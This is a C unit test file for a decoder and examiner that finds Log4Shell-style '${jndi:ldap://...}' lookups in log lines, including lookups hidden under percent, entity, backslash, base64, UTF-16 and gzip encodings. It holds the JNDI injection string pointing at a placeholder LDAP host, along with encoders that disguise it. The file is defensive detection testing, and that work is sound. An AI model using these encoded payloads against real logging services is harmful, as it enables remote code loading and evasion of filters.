/* Each decoder by itself, and each two of them one behind the other: what was written with the
 * encoders of this file is found with its key, and cut anywhere it is no fault. */
#include "unit.h"

#include "lookup/decode.h"
#include "lookup/examine.h"

#include <zlib.h>

/* --- by themselves */

static const struct {
    enum status (*decode)(struct slice in, struct decoding *d, struct buf *out);
    const char *in, *want; /* NULL: there is nothing of its kind */
} rows[] = {
    {decode_url, "%24%7b%7D", "${}"},
    {decode_url, "%u0024%U007B", "${"},
    {decode_url, "%2524", "%24"},
    {decode_url, "%%32%34", "%24"},
    {decode_url, "%4", NULL},
    {decode_url, "a+b", NULL},
    {decode_url, "%24a+b%2Bc", "$a b+c"},
    {decode_url, "GET /p+q?a+b=%24+1 x", "GET /p+q?a b=$ 1 x"},
    {decode_url, "\"+%24\" /a+b /a=b+c", "\" $\" /a+b /a=b c"},
    {decode_url, "%24/a+b+c?d+e", "$/a+b+c?d e"},
    {decode_backslash, "\\u0024\\u007B", "${"},
    {decode_backslash, "\\x24\\x7b", "${"},
    {decode_backslash, "\\44\\173", "${"},
    {decode_backslash, "\\044", "$"},
    {decode_backslash, "\\u{24}\\U0000007b", "${"},
    {decode_backslash, "a\\nb\\tc\\rd\\be\\ff", "a\nb\tc\rd\be\ff"},
    {decode_backslash, "\\\"\\/\\'", "\"/'"},
    {decode_backslash, "\\\\\\\\", "\\\\"},
    {decode_backslash, "\\\\n", "\\n"},
    {decode_backslash, "\\q\\:\\i", "q:i"}, /* as lenient readers have it */
    {decode_backslash, "$\\\n{\\\r\na\\\r", "${a"},
    {decode_backslash, ":\\-\\ \\", NULL},
    {decode_backslash, "\\u{00000000000000000000000024}", "$"},
    {decode_entity, "&#36;&#123", "${"},
    {decode_entity, "&#x24;&#X7b", "${"},
    {decode_entity, "&#0000036&#00123;", "${"},
    {decode_entity, "&#00000000000000000000000000036;&#x0000000000000000000000000000007b", "${"},
    {decode_entity, "&dollar;&lbrace;&lcub&rcub;", "${{}"},
    {decode_entity, "&colon&sol&amp;&ltx", ":/&<x"},
    {decode_entity, "&;&#;&nothing;", NULL},
    {decode_base64, "JHtqbmRpOnh9", "${jndi:x}"},
    {decode_base64, "eCR7am5kaTp4fQ==", "x${jndi:x}"},
    {decode_base64, "eHkke2puZGk6eH0", "xy${jndi:x}"},
    {decode_base64, "JHtqbv9pOvuwv30=", NULL}, /* noise too soon */
    {decode_base64, "aW1wbGVtZW50YXRpb24gZGV0YWlscw==", NULL},
    {decode_base64, "implementation/characteristics", NULL},
};

static void rows_are_decoded(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct decoding d = {0};
        struct buf out;
        buf_init(&out, 4096);
        enum status st = rows[i].decode(slice_str(rows[i].in), &d, &out);
        if (st != (rows[i].want ? OK : ST_END))
            fail_msg("%s: status %d", rows[i].in, st);
        if (rows[i].want && !slice_eq_str(buf_slice(&out), rows[i].want))
            fail_msg("%s: %.*s", rows[i].in, (int)out.n, (const char *)out.p);
        assert_in_range(d.work, 0, 10000);
        buf_done(&out);
    }
}

/* --- encoders */

#define PUT_EACH(format)              \
    for (size_t i = 0; i < in.n; i++) \
    (void)buf_addf(out, format, in.p[i])

static void percent(struct slice in, struct buf *out)
{
    PUT_EACH("%%%02X");
}

static void percent_u(struct slice in, struct buf *out)
{
    PUT_EACH("%%u%04x");
}

static void percent_twice(struct slice in, struct buf *out)
{
    PUT_EACH("%%25%02x");
}

static bool is_word(uint8_t c)
{
    return (c >= '0' && c <= '9') || ((c | 0x20) >= 'a' && (c | 0x20) <= 'z') || c == '_';
}

static void form(struct slice in, struct buf *out)
{
    for (size_t i = 0; i < in.n; i++) {
        if (in.p[i] == ' ')
            (void)buf_add_char(out, '+');
        else if (is_word(in.p[i]))
            (void)buf_add_char(out, (char)in.p[i]);
        else
            (void)buf_addf(out, "%%%02X", in.p[i]);
    }
}

static void backslash_u(struct slice in, struct buf *out)
{
    PUT_EACH("\\u%04x");
}

static void backslash_x(struct slice in, struct buf *out)
{
    PUT_EACH("\\x%02x");
}

static void octal(struct slice in, struct buf *out)
{
    PUT_EACH("\\%03o");
}

static void entity(struct slice in, struct buf *out)
{
    PUT_EACH("&#%u;");
}

static void entity_hex_bare(struct slice in, struct buf *out)
{
    PUT_EACH("&#x%x");
}

static void entity_named_bare(struct slice in, struct buf *out)
{
    static const struct {
        char c;
        const char *name;
    } names[] = {{'&', "&amp"},    {'$', "&dollar"}, {'{', "&lbrace"},
                 {'}', "&rbrace"}, {':', "&colon"},  {'/', "&sol"}};
    for (size_t i = 0; i < in.n; i++) {
        const char *name = NULL;
        for (size_t k = 0; k < ARRAY_LEN(names); k++)
            name = in.p[i] == (uint8_t)names[k].c ? names[k].name : name;
        if (name)
            (void)buf_add_str(out, name);
        else
            (void)buf_add_char(out, (char)in.p[i]);
    }
}

static void json(struct slice in, struct buf *out)
{
    static const char letters[] = "\n\t\r\b\f\"\\/", escapes[] = "ntrbf\"\\/";
    for (size_t i = 0; i < in.n; i++) {
        const char *at = in.p[i] ? strchr(letters, in.p[i]) : NULL;
        if (at)
            (void)buf_addf(out, "\\%c", escapes[at - letters]);
        else if (in.p[i] < ' ')
            (void)buf_addf(out, "\\u%04x", in.p[i]);
        else
            (void)buf_add_char(out, (char)in.p[i]);
    }
}

static void put_base64(struct slice in, struct buf *out, const char *last, bool padded)
{
    static const char letters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    for (size_t i = 0; i < in.n; i += 3) {
        uint32_t v = (uint32_t)in.p[i] << 16;
        v |= i + 1 < in.n ? (uint32_t)in.p[i + 1] << 8 : 0;
        v |= i + 2 < in.n ? in.p[i + 2] : 0;
        for (size_t k = 0; k < 4; k++) {
            uint32_t digit = v >> (18 - 6 * k) & 63;
            if (i + k > in.n) {
                if (padded)
                    (void)buf_add_char(out, '=');
            } else {
                (void)buf_add_char(out, (char)(digit < 62 ? letters[digit] : last[digit - 62]));
            }
        }
    }
}

static void base64(struct slice in, struct buf *out)
{
    put_base64(in, out, "+/", true);
}

static void base64url(struct slice in, struct buf *out)
{
    put_base64(in, out, "-_", false);
}

static void base64_behind(struct slice in, struct buf *out, const char *before, const char *digits)
{
    struct buf text;
    buf_init(&text, 1 << 20);
    (void)buf_add_str(&text, before);
    (void)buf_add_slice(&text, in);
    (void)buf_add_str(out, digits);
    base64url(buf_slice(&text), out);
    buf_done(&text);
}

static void base64_1(struct slice in, struct buf *out)
{
    base64_behind(in, out, "x", "");
}

static void base64_2(struct slice in, struct buf *out)
{
    base64_behind(in, out, "xy", "q");
}

static void base64_in_a_word(struct slice in, struct buf *out)
{
    base64_behind(in, out, "", "qrs");
}

static void utf16le(struct slice in, struct buf *out)
{
    for (size_t i = 0; i < in.n; i++)
        (void)buf_add(out, (uint8_t[]){in.p[i], 0}, 2);
}

static void utf16be(struct slice in, struct buf *out)
{
    for (size_t i = 0; i < in.n; i++)
        (void)buf_add(out, (uint8_t[]){0, in.p[i]}, 2);
}

static void gzip_base64(struct slice in, struct buf *out)
{
    uint8_t packed[16384];
    z_stream z = {.next_in = (z_const Bytef *)(uintptr_t)in.p,
                  .avail_in = (uInt)in.n,
                  .next_out = packed,
                  .avail_out = sizeof packed};
    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY), Z_OK);
    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
    base64(slice_of(packed, z.total_out), out);
    assert_int_equal(deflateEnd(&z), Z_OK);
}

static const struct {
    const char *name;
    void (*encode)(struct slice in, struct buf *out);
} encoders[] = {
    {"percent", percent},
    {"percent u", percent_u},
    {"percent twice", percent_twice},
    {"form", form},
    {"backslash u", backslash_u},
    {"backslash x", backslash_x},
    {"octal", octal},
    {"entity", entity},
    {"hexadecimal entity without ;", entity_hex_bare},
    {"named entity without ;", entity_named_bare},
    {"json", json},
    {"base64", base64},
    {"base64url", base64url},
    {"base64 one byte later", base64_1},
    {"base64 two bytes later", base64_2},
    {"base64 in a word", base64_in_a_word},
    {"utf-16le", utf16le},
    {"utf-16be", utf16be},
    {"gzip in base64", gzip_base64},
};

static const char key[] = "ldap://h.example:1389/a b";

static bool is_key(struct slice got)
{
    size_t n = 0;
    for (size_t i = 0; i < got.n; i++) { /* json: it reaches before the slashes are undone */
        if (got.p[i] == '\\')
            continue;
        if (n == sizeof key - 1 || got.p[i] != (uint8_t)key[n++])
            return false;
    }
    return n == sizeof key - 1;
}

static void assert_found(struct examiner *x, struct slice text, const char *a, const char *b)
{
    struct examined r;
    struct buf line;
    buf_init(&line, 1 << 20);
    for (int inside = 0; inside < 2; inside++) {
        buf_clear(&line);
        (void)buf_add_str(&line, inside ? "GET /?q=" : "");
        (void)buf_add_slice(&line, text);
        (void)buf_add_str(&line, inside ? " HTTP/1.1" : "");
        assert_ok(examine(x, buf_slice(&line), &r));
        if (r.verdict != VERDICT_REACHES || !is_key(r.key))
            fail_msg("%s, %s (%d): %s, key %.*s", a, b, inside, verdict_name(r.verdict),
                     (int)r.key.n, (const char *)r.key.p);
    }
    buf_done(&line);
}

static void one_and_two_encoders(void **state)
{
    (void)state;
    struct examiner *x = NULL;
    struct buf once, twice;
    buf_init(&once, 1 << 20);
    buf_init(&twice, 1 << 20);
    assert_ok(examiner_new(&x));
    for (size_t i = 0; i < ARRAY_LEN(encoders); i++) {
        buf_clear(&once);
        encoders[i].encode(SLICE_LIT("${jndi:ldap://h.example:1389/a b}"), &once);
        assert_found(x, buf_slice(&once), encoders[i].name, "-");
        for (size_t k = 0; k < ARRAY_LEN(encoders); k++) {
            buf_clear(&twice);
            encoders[k].encode(buf_slice(&once), &twice);
            assert_found(x, buf_slice(&twice), encoders[i].name, encoders[k].name);
        }
    }
    buf_done(&once);
    buf_done(&twice);
    examiner_free(x);
}

static void cut_at_every_byte(void **state)
{
    (void)state;
    struct buf text, out;
    buf_init(&text, 4096);
    buf_init(&out, 1 << 16);
    for (size_t i = 0; i < ARRAY_LEN(encoders); i++) {
        buf_clear(&text);
        encoders[i].encode(SLICE_LIT("x ${jndi:ldap://h/a b} \"y\"\n"), &text);
        for (size_t cut = 0; cut <= text.n; cut++) {
            uint8_t *exact = malloc(cut ? cut : 1);
            assert_non_null(exact);
            memcpy(exact, text.p, cut);
            for (const struct decoder *d = decoders; d->name; d++) {
                struct decoding state_of = {0};
                buf_clear(&out);
                for (int k = 0; k < 100; k++)
                    if (d->decode(slice_of(exact, cut), &state_of, &out) != OK)
                        break;
                assert_in_range(out.n, 0, cut * 4 * DECODE_GROWTH);
            }
            free(exact);
        }
    }
    buf_done(&text);
    buf_done(&out);
}

/* Prose, paths and escapes of what is no log: nothing in it may be too much to tell. */
static void long_harmless_lines(void **state)
{
    (void)state;
    static const char *const pieces[] = {
        "<p>The implementation of characteristics/internationalization, see "
        "usr/share/documentation "
        "&quot;${name}&quot;</p>\\n<pre>if (percentage %20 &amp;&amp; \\\"configuration\\\") "
        "process.stdout.write(`${event.data.name}: %s`);\\n",
        "warning: unterminatedParenthesis ${%s}\tand%2Cthen&nbsp;counterrevolutionaries\\t\\u00e9 "
        "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= ",
    };
    struct examiner *x = NULL;
    struct examined r;
    struct buf line;
    buf_init(&line, 1 << 20);
    assert_ok(examiner_new(&x));
    for (size_t i = 0; i < ARRAY_LEN(pieces); i++) {
        for (size_t n = 1; n < 200; n *= 3) {
            buf_clear(&line);
            for (size_t k = 0; k < n; k++)
                (void)buf_add_str(&line, pieces[i]);
            assert_ok(examine(x, buf_slice(&line), &r));
            if (r.verdict != VERDICT_NONE)
                fail_msg("piece %zu, %zu times: %s", i, n, verdict_name(r.verdict));
        }
    }
    /* tables of numbers, as in catalogues of messages: NUL beside letters, read as UTF-16 */
    buf_clear(&line);
    (void)buf_add_str(&line, "${");
    for (uint32_t i = 0; i < 1500; i++) {
        uint8_t number[4] = {(uint8_t)(i % 94 + 33), (uint8_t)(i / 94 + 90), (uint8_t)(i % 3), 0};
        (void)buf_add(&line, number, sizeof number);
    }
    assert_ok(examine(x, buf_slice(&line), &r));
    assert_int_equal(r.verdict, VERDICT_NONE);
    buf_done(&line);
    examiner_free(x);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(rows_are_decoded),
        cmocka_unit_test(one_and_two_encoders),
        cmocka_unit_test(cut_at_every_byte),
        cmocka_unit_test(long_harmless_lines),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
